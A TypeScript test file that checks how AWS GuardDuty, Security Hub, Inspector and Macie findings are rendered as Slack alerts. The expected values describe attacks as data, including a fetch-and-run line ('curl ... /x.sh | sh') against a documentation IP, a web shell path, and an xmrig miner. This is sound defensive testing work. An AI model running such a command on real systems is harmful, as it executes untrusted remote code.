import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { interpret } from '../../../../functions/interpreter/messages';
import { parse } from '../../../../functions/interpreter/parse';
import { renderAlert } from '../../../../functions/notifier/render/render-alert';
import type { Alert } from '../../../../functions/shared/alert';
import { expectWithinSlackLimits, mrkdwnOf } from '../../notifier/slack/slack-limits';
import { RENDER_SETTINGS } from '../../reader';
import { shown } from './shown';

const FOLDER = join(__dirname, '..', '..', '..', 'field');

function alertOf(file: string): Alert {
  const { alerts, fault } = interpret(parse(readFileSync(join(FOLDER, `${file}.json`), 'utf8'), 'm-1'));
  expect(fault).toBeUndefined();
  expect(alerts).toHaveLength(1);
  return alerts[0] as Alert;
}

interface Expected {
  readonly resource: string;
  /** Among the eight fields that are read at a glance, the resource being one. */
  readonly first: Readonly<Record<string, string>>;
  readonly more?: Readonly<Record<string, string>>;
  readonly alert?: Partial<Alert>;
}

const EXPECTED: Readonly<Record<string, Expected>> = {
  'gd-k8s-source-ips': {
    resource: 'prod',
    first: {
      Type: 'Execution:Kubernetes/ExecInKubeSystemPod',
      'First seen': '2026-11-20T09:00:00.000Z',
      Request: 'create /api/v1/namespaces/kube-system/pods/coredns-7f6/exec',
      'Source IPs': '203.0.113.77\n10.0.0.4',
      Workload: 'kube-system/coredns-7f6 (pods)',
      'Kubernetes user': 'kubernetes-admin (alice-session)',
      'Impersonated user': 'system:admin (system:masters)',
    },
    more: {
      'User agent': 'kubectl/v1.30.0',
      'Status code': '101',
      VPC: 'vpc-1',
      'Kubernetes groups': 'system:masters',
    },
    alert: { severity: 'medium' },
  },
  'gd-malware-ebs': {
    resource: 'i-0a1',
    first: {
      Threat: 'EICAR-Test-File ×2 (HIGH)',
      File: '/var/www/html/shell.php',
      'Infected files': '2',
      Volume: 'arn:aws:ec2:eu-west-1:111122223333:volume/vol-1 (/dev/xvda)',
    },
    more: {
      'File hash': 'abc',
      'Infected resource': 'arn:aws:ec2:eu-west-1:111122223333:volume/vol-1',
      'Volumes not scanned': 'arn:aws:ec2:eu-west-1:111122223333:volume/vol-2',
      'Triggered by finding': 'tf',
    },
    alert: {
      help: 'https://docs.aws.amazon.com/guardduty/latest/ug/findings-malware-protection.html',
    },
  },
  'gd-malware-recoverypoint': {
    resource: 'arn:aws:ec2:eu-west-1::image/ami-0a1b2c',
    first: { Threat: 'EICAR-Test-File', 'Backup vault': 'Default' },
  },
  'gd-malware-snapshot': {
    resource: 'arn:aws:ec2:eu-west-1:111122223333:snapshot/snap-0a1b2c',
    first: { Threat: 'EICAR-Test-File (Bitdefender)', 'Infected files': '/tmp/x' },
    more: { 'File hash': 'h', 'Scan type': 'BACKUP_INITIATED' },
  },
  'gd-object-scan': {
    resource: 'uploads/cv.pdf',
    first: {
      Threat: 'EICAR-Test-File (not a virus)',
      Status: 'THREATS_FOUND (COMPLETED)',
      Bucket: 'uploads',
    },
    alert: { title: 'uploads/cv.pdf: malware found', severity: 'high', state: 'open', service: 'guardduty' },
  },
  'gd-rds-login': {
    resource: 'orders-1 (orders)',
    first: {
      'Login attempts': 'reporting_admin (psql): 412 failed, 3 successful',
      'Remote IP': '198.51.100.9 (X, Exampleland)',
      'Database user': 'reporting_admin (orders, psql)',
    },
    more: { Authentication: 'md5', TLS: 'true', Engine: 'Aurora PostgreSQL 15.4' },
  },
  'gd-role-binding': {
    resource: 'prod',
    first: {
      'Role binding': 'ClusterRoleBinding evil → ClusterRole cluster-admin',
      Request: 'create /apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
      'Remote IP': '198.51.100.9 (X, Exampleland)',
      'Kubernetes user': 'bob (s1)',
    },
    more: { 'Kubernetes object': 'clusterrolebindings evil' },
  },
  'gd-runtime': {
    resource: 'app (c1)',
    first: {
      Process: '/bin/sh (root)',
      'Command line': 'curl http://198.51.100.9/x.sh | sh',
      Script: '/tmp/x.sh',
      'Parent process': '/usr/sbin/nginx (pid 1)',
      File: '/tmp/x.sh',
    },
    more: { 'ECS cluster': 'prod', Tool: 'nc', 'Process SHA-256': 'deadbeef', 'Working directory': '/tmp' },
  },
  'gd-seq': {
    resource: 'prod',
    first: {
      Actors: '/tmp/xmrig (deadbeef)\nalice (AssumedRole, MFA disabled, 111122223333)',
      Endpoints: '198.51.100.9:443 pool.example.com (OUTBOUND, Example (AS64501), X, Y)',
      Indicators:
        'Cryptomining domain: pool.example.com\nMalicious file: /tmp/xmrig\nHigh risk API: iam:CreateRole',
      Signals: 'Execution:Runtime/NewBinaryExecuted ×3',
      Tactics: 'Execution',
    },
    alert: { severity: 'critical' },
  },
  'sh-custom-action': {
    resource: 'arn:aws:s3:::open (AwsS3Bucket)',
    first: { 'Sent by': 'Send to Slack (d)', Control: 'S3.8' },
    alert: {
      title: 'S3.8 open bucket',
      severity: 'critical',
      help: 'https://docs.aws.amazon.com/console/securityhub/S3.8/remediation',
    },
  },
  'sh-guardduty-asff': {
    resource: 'AWS::IAM::AccessKey:ASIAEXAMPLE (AwsIamAccessKey)',
    first: { API: 'ListBuckets (s3.amazonaws.com)', 'Remote IP': '198.51.100.9 (X)', 'Access key': 'Admin' },
    more: { Principal: 'AROA:alice', Source: 'GuardDuty' },
    alert: {
      isCopy: true,
      kind: 'UnauthorizedAccess:IAMUser/TorIPCaller',
      key: 'guardduty/111122223333/UnauthorizedAccess:IAMUser/TorIPCaller/AROA:alice/ASIAEXAMPLE',
      help: 'https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_finding-types-iam.html#unauthorizedaccess-iam-toripcaller',
    },
  },
  'sh-health-newline': {
    resource: 'arn:aws:health:eu-west-1:111122223333:event/x',
    first: { Source: 'Health' },
    alert: { description: 'First.\n\nSecond.', isCopy: true },
  },
  'sh-inspector-asff': {
    resource: 'arn:aws:ec2:eu-west-1:111122223333:instance/i-0a (AwsEc2Instance)',
    first: {
      Vulnerability: 'CVE-2026-1',
      Packages: 'openssl 3.0.1 → 3.0.2',
      'Exploit available': 'YES',
      EPSS: '90%',
      'First seen': '2026-11-20T09:00:00Z',
      Remediation:
        'Remediation is available. Please refer to the Fixed version in the vulnerability details section above.',
    },
    more: { 'Fix available': 'YES' },
    alert: {
      title: 'CVE-2026-1 - openssl: i-0a',
      isCopy: true,
      key: 'inspector/arn:aws:inspector2:eu-west-1:111122223333:finding/abc',
      kind: 'PACKAGE_VULNERABILITY',
    },
  },
  'v2-vuln': {
    resource: 'arn:aws:ec2:eu-west-1:111122223333:instance/i-0a (web) (AWS::EC2::Instance)',
    first: {
      Vulnerability: 'CVE-2026-1',
      Packages: 'openssl 3.0.1 → 3.0.2',
      'Exploit available': 'YES',
    },
    more: { 'Package remediation': 'Upgrade', 'Fix available': 'YES' },
    alert: {
      title: 'CVE-2026-1 - openssl: web',
      isCopy: true,
      key: 'inspector/arn:aws:inspector2:eu-west-1:111122223333:finding/abc',
    },
  },
  'macie-aws-service': {
    resource: 'b',
    first: {
      API: 'PutBucketPublicAccessBlock (s3.amazonaws.com)',
      Who: 'arn:aws:sts::111122223333:assumed-role/Admin/alice (AssumedRole)',
      'By service': 'cloudformation.amazonaws.com',
      'Public access': 'PUBLIC',
    },
    alert: { severity: 'high' },
  },
};

describe.each(Object.entries(EXPECTED))('%s', (file, expected) => {
  test('shows its resource and other fields', () => {
    const alert = alertOf(file);
    expect(alert.resource).toBe(expected.resource);
    expect(shown(alert)).toMatchObject({ ...expected.first, ...expected.more });
    expect(alert).toMatchObject(expected.alert ?? {});
  });

  test('shows the most important fields first', () => {
    const columns = renderAlert(alertOf(file), 'channel', RENDER_SETTINGS).attachments.flatMap(({ blocks }) =>
      blocks.flatMap((block) => ('fields' in block ? block.fields : [])),
    );
    expect(columns.length).toBeLessThanOrEqual(8);
    const labels = columns.map(({ text }) => text.match(/^\*(.*)\*\n/)?.[1]);
    expect(labels).toEqual(expect.arrayContaining(['Resource', ...Object.keys(expected.first)]));
  });

  test('is within Slack’s limits and shows no missing values', () => {
    const payload = renderAlert(alertOf(file), 'channel', RENDER_SETTINGS);
    expectWithinSlackLimits(payload);
    const texts = mrkdwnOf(payload)
      .map(({ text }) => text)
      .join('\n');
    expect(texts).not.toMatch(/undefined|\[object|NaN|null|"\w+"\s*:/);
  });
});
